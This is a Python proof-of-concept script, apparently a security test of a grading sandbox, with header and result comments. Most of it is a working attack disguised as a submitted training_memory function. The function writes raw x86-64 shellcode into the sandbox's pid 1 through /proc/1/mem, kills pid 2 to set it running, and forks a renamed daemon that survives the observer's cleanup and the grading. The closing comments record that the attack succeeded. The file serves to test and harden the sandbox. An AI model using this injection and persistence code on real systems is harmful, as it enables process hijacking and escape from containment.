# a07: a05 from the OBSERVER's side: the student's training_memory, run by the observer in a child of its own, writes
# into the observer sandbox's pid 1 (bwrap's init) the same prctl(PR_SET_PDEATHSIG, 0) + execve code, wakes it by
# killing the placeholder (pid 2; pid 1's wait() returns into the new code), and the new pid 1 forks a daemon
# ("r10-obs-surv", sleeping 120 s) that is not a descendant of the observer, so the observer's sweep after each call
# does not reach it. Does it outlive the observer's sandbox and the grading?
# RESULT: see the end of this file.
from u10 import *
BODY = r'''
def training_memory(model, optimizer):
    import os, sys, struct, time, signal
    if open(f"/proc/{os.getppid()}/comm").read().strip() != "observer" or os.path.exists("/tmp/p1.py"):
        raise ValueError("not in the observer's child, or done already")
    open("/tmp/p1.py", "w").write("""
import os, time, ctypes
libc = ctypes.CDLL(None)
if os.fork() == 0:
    os.closerange(3, 1280)
    libc.prctl(15, b"r10-obs-surv", 0, 0, 0)
    time.sleep(120)
    os._exit(0)
while True:
    try:
        os.wait()
    except ChildProcessError:
        time.sleep(0.5)
""")
    pc = int(open("/proc/1/syscall").read().split()[-1], 16)
    exe = sys.executable.encode() + b"\\0"; script = b"/tmp/p1.py\\0"
    base = pc + 48
    path_a = base; script_a = base + len(exe); argv_a = (script_a + len(script) + 7) & ~7
    code = (b"\\xbf\\x01\\x00\\x00\\x00" + b"\\x31\\xf6" + b"\\xb8\\x9d\\x00\\x00\\x00" + b"\\x0f\\x05"
            + b"\\x48\\xbf" + struct.pack("<Q", path_a) + b"\\x48\\xbe" + struct.pack("<Q", argv_a) + b"\\x31\\xd2"
            + b"\\xb8\\x3b\\x00\\x00\\x00" + b"\\x0f\\x05" + b"\\xeb\\xfe").ljust(48, b"\\x90")
    blob = code + exe + script
    blob = blob.ljust(argv_a - pc, b"\\0") + struct.pack("<QQQ", path_a, script_a, 0)
    fd = os.open("/proc/1/mem", os.O_RDWR)
    n = os.pwrite(fd, blob, pc)
    os.close(fd)
    os.kill(2, signal.SIGKILL)
    time.sleep(2)
    raise ValueError(f"observer sandbox: wrote {n} bytes in pid 1 at {pc:#x}; pid 1 now "
                     f"{open('/proc/1/cmdline','rb').read()!r}")
'''
BODY = BODY.replace("\\\\", "\\")  # the doubled backslashes above are single ones in the notebook
nb = notebook(overrides={"training_memory": BODY})
if __name__ == "__main__":
    import subprocess
    d, p = ugrade("a07", {"a_obs": nb, "b_honest": u7.honest()})
    outputs(d, "a_obs")
    print(subprocess.run("ps -u 65534 -o pid,ppid,etime,comm,cmd | grep -v work/main | cut -c1-160", shell=True, capture_output=True, text=True).stdout)
# RESULT (16:33-16:34 UTC, a07.out.txt; a first try at 16:33 failed on doubled backslashes in the notebook): BROKEN
# (same cause as a05, from the observer's side: no kernel code involved). The check's feedback says "training_memory:
# your code raised ValueError: observer sandbox: wrote 125 bytes in pid 1 at 0x7fadec21fbd3; pid 1 now
# b'<user clone>/.venv/bin/python\x00/tmp/p1.py\x00'". After grader.grade returned (rc 0, 33 s; b_honest 24/24)
# host `ps -u 65534`: 10276 ppid 1 python /tmp/p1.py (the observer sandbox's pid 1) and 10282 r10-obs-surv, its
# daemon: the observer's sweep kills only the observer's descendants, and the new pid 1 forked the daemon itself.
# Killed by hand (kill -9 10276). So even a kernel that could not write /proc/1/mem would not close this: the
# student's functions run in the observer's sandbox, whose pid 1 is just as writable.
